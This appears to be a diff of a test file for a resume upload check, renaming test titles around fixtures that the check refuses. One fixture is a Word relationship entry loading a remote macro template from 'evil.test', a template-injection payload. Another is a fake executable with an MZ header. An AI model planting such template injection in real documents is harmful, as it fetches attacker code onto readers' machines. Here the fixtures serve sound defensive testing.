@@ -136,7 +136,7 @@ test('refuses a resume if the list names an unrecorded file', async () => {
 const TEMPLATE =
   '<Relationships><Relationship Type="x/attachedTemplate" Target="http://evil.test/a.dotm" TargetMode="External"/></Relationships>'
 
-describe('a resume is refused by content:', () => {
+describe('the check of a resume', () => {
   const exe = Buffer.concat([
     Buffer.from('MZ\u0090\u0000'),
     Buffer.alloc(400),
@@ -169,7 +169,7 @@ describe('a resume is refused by content:', () => {
     ['an old Word document or installer', { name: 'resume.doc', content: Buffer.from('d0cf11e0a1b11ae1', 'hex') }, 415],
     ['an empty file', { name: 'resume.pdf', content: Buffer.alloc(0) }, 415],
     ['more than 5 MB', { name: 'resume.pdf', content: Buffer.concat([pdf('x'), Buffer.alloc(5 * 1_048_576)]) }, 413],
-  ] as const)('%s', async (_, resume, status) => {
+  ] as const)('refuses %s', async (_, resume, status) => {
     const before = await filesKept()
     const form = typed()
     const answer = await send(form, resume)
